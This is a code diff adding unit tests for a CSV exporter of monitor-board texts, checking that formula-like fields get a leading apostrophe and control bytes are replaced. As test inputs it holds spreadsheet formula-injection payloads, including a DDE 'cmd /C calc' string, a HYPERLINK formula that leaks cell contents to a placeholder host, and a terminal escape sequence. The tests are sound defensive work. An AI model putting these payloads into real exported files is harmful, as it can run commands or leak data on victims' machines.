@@ -92,6 +92,18 @@ TEST(BoardCsvTest, FieldsAreQuotedOnlyWhenTheyMustBe)
         {"lf\nonly", "\"lf\nonly\""},
         {"tab\there;semi", "tab\there;semi"},
         {"\xE9\x80\x9A\xE8\xAF\x9D", "\xE9\x80\x9A\xE8\xAF\x9D"},
+        // What a spreadsheet would run as a formula is shown as text: a leading '.
+        {"=1+2", "'=1+2"},
+        {"=HYPERLINK(\"http://x\"&A1)", "\"'=HYPERLINK(\"\"http://x\"\"&A1)\""},
+        {"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
+        {"-2", "'-2"},
+        {"@SUM(A1,A2)", "\"'@SUM(A1,A2)\""},
+        {"\tx", "'\tx"},
+        {"\rx", "\"'\rx\""},
+        {"a=b", "a=b"},
+        {"'=quoted", "'=quoted"},
+        {" =1", " =1"},
+        {"2026-12-09T14:03:27+01:00", "2026-12-09T14:03:27+01:00"},
     };
     for (const auto& c : cases)
         EXPECT_EQ(CsvField(c.in), c.out) << c.in;
@@ -197,10 +209,60 @@ TEST(BoardCsvTest, ChineseHeadersAndBrokenBytesAreDecoded)
     }
     BoardLock lock(board.Lock);
     const std::vector<std::string> rows = Rows(BoardCsv(board, cfg, {FakeBoardClock::Now(), kWall}));
-    ASSERT_EQ(rows.size(), 3u) << "a quoted CR LF is inside a field, not a row end";
+    ASSERT_EQ(rows.size(), 2u) << "a server's line end never reaches the file";
     EXPECT_EQ(rows[0],
               "线路,脚本文件,状态,当前按键,运行信息,用户消息1,用户消息2,用户消息3,Status since,Seconds in status");
-    EXPECT_EQ(rows[1] + "\r\n" + rows[2], ",啊\xEF\xBF\xBD,,,,,,\"a\r\nb\",2026-12-09T13:03:27+00:00,0");
+    EXPECT_EQ(rows[1], ",啊\xEF\xBF\xBD,,,,,,a\xEF\xBF\xBD\xEF\xBF\xBD"
+                       "b,2026-12-09T13:03:27+00:00,0");
+}
+
+TEST(BoardCsvTest, ServerTextsCannotRunFormulasNorSteerWhatReadsTheFile)
+{
+    TimeZone tz("UTC0");
+    FakeBoardClock clock;
+    TagRunCfg cfg;
+    cfg.IsEnglish = 1;
+    TagMonitor board(1);
+    const std::string texts[kColsPerLine] = {
+        "=HYPERLINK(\"http://x/?\"&A1)",
+        "+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd",
+        "-1+1",
+        "\x1B]0;title\x07\x1B[2J",
+        "\tTAB",
+        "\rCR",
+        "DEL\x7F",
+    };
+    {
+        BoardLock lock(board.Lock);
+        for (int k = 0; k < kColsPerLine; ++k)
+            board.SetCell(texts[k].data(), texts[k].size(), 0, k, 0, 15);
+    }
+    BoardLock lock(board.Lock);
+    const std::string csv = BoardCsv(board, cfg, {FakeBoardClock::Now(), kWall});
+    const std::vector<std::string> rows = Rows(csv);
+    ASSERT_EQ(rows.size(), 2u);
+    EXPECT_EQ(rows[1], "\"'=HYPERLINK(\"\"http://x/?\"\"&A1)\",'+cmd|' /C calc'!A0,'@SUM(1+1)*cmd,'-1+1,"
+                       "\xEF\xBF\xBD]0;title\xEF\xBF\xBD\xEF\xBF\xBD[2J,\xEF\xBF\xBDTAB,\xEF\xBF\xBD"
+                       "CR,"
+                       "DEL\xEF\xBF\xBD,2026-12-09T13:03:27+00:00,0");
+    for (char c : csv) {
+        const auto b = static_cast<unsigned char>(c);
+        EXPECT_TRUE(b >= 0x20 ? b != 0x7F : (c == '\r' || c == '\n')) << "control byte " << int(b);
+    }
+}
+
+TEST(BoardCsvTest, AByteOrderMarkOnlyWhenAskedFor)
+{
+    TagRunCfg cfg;
+    cfg.IsEnglish = 1;
+    TagMonitor board(1);
+    BoardLock lock(board.Lock);
+    const std::string plain = BoardCsv(board, cfg, CsvClockNow(board));
+    EXPECT_EQ(plain.rfind("Line,", 0), 0u);
+    const std::string marked = BoardCsv(board, cfg, CsvClockNow(board), kDefaultStatusColumn, CsvStart::ByteOrderMark);
+    EXPECT_EQ(marked.substr(0, 8), "\xEF\xBB\xBFLine,");
+    EXPECT_EQ(marked.substr(3), plain) << "the mark is all that differs";
 }
 
 TEST(BoardCsvTest, ACellWrittenAfterTheMomentAskedForReadsAsJustNow)
